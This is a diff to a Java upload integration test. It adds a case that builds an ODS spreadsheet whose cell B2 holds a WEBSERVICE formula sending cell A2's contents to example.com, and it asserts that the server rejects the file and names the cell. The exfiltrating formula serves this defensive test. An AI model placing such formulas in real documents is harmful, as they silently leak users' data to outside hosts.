@@ -301,6 +301,32 @@ class UploadsIT {
     }
 
     @Test
+    void anOdsFormulaThatReachesOutsideIsRefusedNamingItsCell() throws Exception {
+        String content = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content xmlns:office=\"urn:oasis:"
+                + "names:tc:opendocument:xmlns:office:1.0\" xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\""
+                + " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" office:version=\"1.3\"><office:body>"
+                + "<office:spreadsheet><table:table table:name=\"Data\"><table:table-row><table:table-cell"
+                + " office:value-type=\"string\"><text:p>q</text:p></table:table-cell><table:table-cell"
+                + " office:value-type=\"string\"><text:p>answer</text:p></table:table-cell></table:table-row>"
+                + "<table:table-row><table:table-cell office:value-type=\"string\"><text:p>x</text:p></table:table-cell>"
+                + "<table:table-cell table:formula=\"of:=WEBSERVICE(&quot;https://example.com/?q=&quot;&amp;[.A2])\""
+                + " office:value-type=\"string\" office:string-value=\"\"/></table:table-row></table:table>"
+                + "</office:spreadsheet></office:body></office:document-content>";
+        ByteArrayOutputStream ods = new ByteArrayOutputStream();
+        try (ZipOutputStream zip = new ZipOutputStream(ods)) {
+            zip.putNextEntry(new ZipEntry("mimetype"));
+            zip.write("application/vnd.oasis.opendocument.spreadsheet".getBytes(StandardCharsets.US_ASCII));
+            zip.putNextEntry(new ZipEntry("content.xml"));
+            zip.write(content.getBytes(StandardCharsets.UTF_8));
+        }
+        String before = http.callTool(session, "list_files", Map.of()).toString();
+        HttpResponse<String> response = multipart(Map.of("outside.ods", ods.toByteArray()));
+        assertThat(response.statusCode()).isEqualTo(400);
+        assertThat(response.body()).contains("sheet 'Data', cell B2").contains("WEBSERVICE");
+        assertThat(http.callTool(session, "list_files", Map.of()).toString()).isEqualTo(before);
+    }
+
+    @Test
     void macrosAreKeptInertInAnXlsm() throws Exception {
         byte[] xlsm = withMacros(openpyxl(ISSUE_BOOK));
         HttpResponse<String> response = raw(xlsm, "application/vnd.ms-excel.sheet.macroEnabled.12", "X-Filename",
